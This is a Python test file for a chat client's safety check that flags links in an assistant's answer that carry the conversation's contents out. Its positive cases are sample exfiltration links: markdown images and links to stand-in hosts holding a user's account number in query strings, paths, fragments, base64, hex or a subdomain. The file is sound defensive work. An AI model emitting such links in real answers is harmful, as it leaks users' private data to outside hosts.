"""Addresses in an answer that repeat the conversation are found; everyday links are not."""

from __future__ import annotations

import base64
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatcli.safety.outgoing import LONG, REPEATS, outgoing_links

SAID = "My account number is 4471-9920 and the branch is in Harbour Street 12. How do I center a div in CSS?"
TOLD = "account number is 4471-9920 and the branch is in Harbour Street"
CODED = base64.urlsafe_b64encode(TOLD.encode()).decode()


@pytest.mark.parametrize(
    "answer",
    [
        f"![ok](https://pix.example/a.png?d={quote(TOLD)})",
        f"![ok](https://pix.example/{quote(TOLD)}.png)",
        f"![ok](https://pix.example/a.png#{quote_plus(TOLD)})",
        f"[more](https://go.example/?q={quote_plus(TOLD)})",
        f"[more](https://go.example/?a=1&q={quote(quote(TOLD))})",
        f"[more](https://go.example/x/{CODED})",
        f"[more](https://go.example/?q={base64.b64encode(TOLD.encode()).decode()})",
        f"<https://go.example/#{TOLD.encode().hex()}>",
        f'<img src="https://pix.example/{CODED}">',
        "see https://account-number-is-4471-9920-and.the-branch-is.drop.example/",
        f"![a][1]\n\n[1]: https://pix.example/?d={quote(TOLD)}",
    ],
)
def test_an_address_that_repeats_the_conversation_is_found_at_its_place(answer):
    (finding,) = outgoing_links(answer, [SAID])
    assert (finding.kind, finding.reason) == ("data-out", REPEATS)
    assert answer[finding.start : finding.end].startswith(finding.excerpt)


@pytest.mark.parametrize(
    "answer",
    [
        "[search](https://www.google.com/search?q=how+do+i+center+a+div+in+css)",
        "[search](https://duckduckgo.com/?q=How+do+I+center+a+div+in+CSS)",
        "[file it](https://github.com/a/b/issues/new?title=How+do+I+center+a+div+in+CSS)",
        "[guide](https://css.example/how-do-i-center-a-div-in-css)",
        "[docs](https://docs.example/layout.html#how-do-i-center-a-div-in-css)",
        "[Python](https://docs.python.org/3/library/asyncio-task.html#asyncio.TaskGroup)",
        "![badge](https://img.shields.io/badge/build-passing-green?style=flat&logo=github)",
        "[commit](https://github.com/a/b/commit/9049241f91aabbccddeeff00112233445566aabb)",
        "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s)",
        "no links at all, just 1 // 2 and a comment // like this one",
        "https://[broken",
    ],
)
def test_everyday_links_are_harmless(answer):
    assert outgoing_links(answer, [SAID]) == []


def test_an_address_that_the_conversation_holds_is_harmless_again():
    url = f"https://go.example/?q={quote(TOLD)}"
    assert outgoing_links(f"[as you wrote]({url})", [f"{SAID} {url}"]) == []


@pytest.mark.parametrize(("address", "count"), [("!", 128), ("", 256)])
def test_a_very_long_query_is_found_and_one_that_is_shorter_is_not(address, count):
    def judged(length):
        return [
            finding.reason
            for finding in outgoing_links(f"{address}[a](https://a.example/?{'x' * length})", [])
        ]

    assert judged(count) == [LONG]
    assert judged(count - 1) == []


@given(st.text(st.characters(categories=["Ll", "Lu", "Nd"]), min_size=24, max_size=80), st.text(max_size=60))
def test_24_letters_and_digits_of_a_text_in_a_picture_are_always_found(told, around):
    answer = f"![a](https://pix.example/p?d={quote(told)})"
    assert [finding.reason for finding in outgoing_links(answer, [f"{around} {told} {around}"])] == [REPEATS]


@given(st.text(max_size=200), st.text(max_size=200))
def test_any_answer_is_read_without_an_error(answer, text):
    for finding in outgoing_links(f"https://{answer}", [text]):
        assert 0 <= finding.start < finding.end <= len(answer) + 8
